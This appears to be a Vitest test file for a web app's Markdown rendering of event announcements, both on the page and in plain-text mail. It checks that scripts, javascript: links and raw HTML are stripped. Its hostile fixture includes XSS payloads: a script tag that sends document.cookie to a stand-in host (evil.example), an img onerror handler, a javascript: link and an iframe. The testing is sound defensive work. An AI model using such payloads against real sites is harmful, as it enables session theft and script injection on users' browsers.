// An announcement's Markdown: on the page through the one renderer (raw HTML, scripts and unsafe links
// neutralised), in the mail as plain text.
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/lib/markdown.server";
import { markdownParagraphs, markdownSummary } from "./text";

const hostile = [
  "Welcome!",
  "<script>fetch('https://evil.example/'+document.cookie)</script>",
  "[Agenda](javascript:alert(1)) and [map](https://example.com/map) and [mail us](mailto:hack@example.com)",
  '<img src=x onerror="alert(2)"><iframe src="https://evil.example"></iframe><b style="color:red">raw bold</b>',
].join("\n\n");

describe("an announcement on the event page", () => {
  const html = renderMarkdown(hostile);

  it("drops a <script> with its content", () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain("document.cookie");
  });

  it("keeps no javascript: link, and gives safe links rel=noopener noreferrer", () => {
    expect(html).not.toMatch(/javascript:/i);
    expect(html).toContain('<a href="https://example.com/map" rel="noopener noreferrer nofollow">map</a>');
    expect(html).toContain('href="mailto:hack@example.com"');
  });

  it("renders no raw HTML element or attribute", () => {
    expect(html).not.toMatch(/<(img|iframe|b)\b/i);
    expect(html).not.toMatch(/onerror|style=/i);
    expect(html).toContain("raw bold");
  });
});

describe("an announcement in the mail", () => {
  it("is one paragraph per block, links written out, no Markdown marks or HTML", () => {
    expect(
      markdownParagraphs("## Day two\n\n**Pizza** at *noon* &amp; drinks.  \nBring a laptop\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n---"),
    ).toEqual(["Day two", "Pizza at noon & drinks.\nBring a laptop", "- one", "- two", "1. first", "2. second", "> quoted", "---"]);
  });

  it("writes out safe links only, and drops scripts and raw HTML", () => {
    const text = markdownParagraphs(hostile).join("\n\n");
    expect(text).toBe("Welcome!\n\nAgenda and map (https://example.com/map) and mail us (mailto:hack@example.com)\n\nraw bold");
  });

  it("summarises long text for the in-app notice", () => {
    expect(markdownSummary("**Short**")).toBe("Short");
    const long = markdownSummary("word ".repeat(100), 50);
    expect(long).toHaveLength(50);
    expect(long.endsWith("…")).toBe(true);
  });
});
